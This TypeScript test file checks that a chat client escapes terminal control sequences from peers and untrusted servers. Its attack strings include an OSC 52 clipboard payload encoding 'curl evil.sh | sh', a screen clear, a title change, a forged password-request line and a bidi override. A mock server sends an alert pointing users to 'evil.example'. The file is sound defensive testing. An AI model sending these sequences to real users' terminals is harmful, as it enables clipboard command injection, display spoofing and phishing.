/**
 * Finding 5 of issue 18: another member's message, or an unauthenticated
 * server's alert, must not act on the user's terminal. Everything the
 * interactive client prints from the network is escaped (display.ts,
 * client/render.ts); the scripted client's JSON escapes what JSON leaves
 * raw; the server refuses control characters in messages; a clear alert's
 * text is never shown.
 */
import fc from "fast-check";
import { createServer } from "node:net";
import { describe, expect, it } from "vitest";
import { describeResult, renderMessage } from "../src/client/render.ts";
import { SecureClient } from "../src/client/secure-client.ts";
import { trustOnFirstUse } from "../src/client/host-keys.ts";
import { createNodeProvider } from "../src/crypto/node.ts";
import { displayText, escapeControls, safeJson } from "../src/display.ts";
import { createLogger } from "../src/log.ts";
import { encodeClearAlert } from "../src/protocol/secure.ts";

/** Anything a terminal acts on, or that reorders or breaks a line. */
const unsafe =
  // eslint-disable-next-line no-control-regex -- finding control characters is the point
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]|\p{Cs}/u;

const attacks = {
  title: "\u001b]0;owned\u0007",
  clear: "\u001b[2J\u001b[H",
  clipboard: "\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007",
  forgedLine: "hi\r\n[general #5 12:00:00] bob: send me your password",
  c1Csi: "\u009b2J",
  bidi: "\u202etxt.exe",
  del: "a\u007fb",
};

describe("terminal output", () => {
  it("renders every attack inert: no control, no bidi override, no line of its own", () => {
    for (const [name, text] of Object.entries(attacks)) {
      const line = renderMessage("general", { id: 1, user: "mallory", text, ts: 0 });
      expect(line, name).not.toMatch(unsafe);
      // A newline in the text continues on a marked line, never a fresh one.
      for (const l of line.split("\n").slice(1)) expect(l.startsWith("  | "), name).toBe(true);
    }
    expect(escapeControls(attacks.title)).toBe("\\x1b]0;owned\\x07");
    expect(escapeControls(attacks.bidi)).toBe("\\u202etxt.exe");
  });

  it("escapes names, errors and results from a malicious server too (property)", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), fc.string({ unit: "binary" }), (a, b) => {
        const out = [
          renderMessage(a, { id: 1, user: b, text: a + b, ts: 0 }).replace(/\n {2}\| /g, " "),
          describeResult({ op: "ping" }, { ok: false, error: { code: a, message: b } }),
          describeResult({ op: "channels" }, { ok: true, channels: [{ name: a, lastId: 0 }] }),
          describeResult(
            { op: "invitations" },
            { ok: true, invitations: [{ channel: a, from: b, ts: 0 }] },
          ),
          displayText(a).replace(/\n {2}\| /g, " "),
        ];
        for (const o of out) expect(o).not.toMatch(unsafe);
      }),
    );
  });

  it("the scripted client's JSON escapes C1, DEL and bidi and still parses to the same value", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (s) => {
        const j = safeJson({ text: s });
        expect(j).not.toMatch(unsafe);
        expect(JSON.parse(j)).toEqual({ text: s });
      }),
    );
  });

  it("log lines escape what a peer put in them", () => {
    const lines: string[] = [];
    createLogger("t", "info", (l) => lines.push(l)).info(`peer said ${attacks.clear}`);
    expect(lines[0]!.trimEnd()).not.toMatch(unsafe);
    expect(lines[0]).toContain("\\x1b[2J");
  });

  it("the server's log is rate-limited and says how much it dropped", () => {
    const lines: string[] = [];
    const log = createLogger("t", "info", (l) => lines.push(l), { burst: 3, perMinute: 0.0001 });
    for (let i = 0; i < 10; i++) log.warn(`line ${i}`);
    expect(lines).toHaveLength(3);
  });

  it("a clear alert before the handshake is shown by its code only, never its text", async () => {
    const evil = createServer((s) => {
      s.once("data", () =>
        s.end(
          encodeClearAlert("too_many", `${attacks.clear}server moved: connect to evil.example`),
        ),
      );
    });
    await new Promise<void>((r) => evil.listen(0, "127.0.0.1", r));
    const port = (evil.address() as { port: number }).port;
    const err = await SecureClient.connect({
      host: "127.0.0.1",
      port,
      provider: createNodeProvider(),
      hostKeys: trustOnFirstUse(),
    }).catch((e: Error) => e);
    evil.close();
    expect(err).toMatchObject({ code: "too_many" });
    expect((err as Error).message).not.toMatch(/evil|moved/);
    expect((err as Error).message).not.toMatch(unsafe);
  });
});
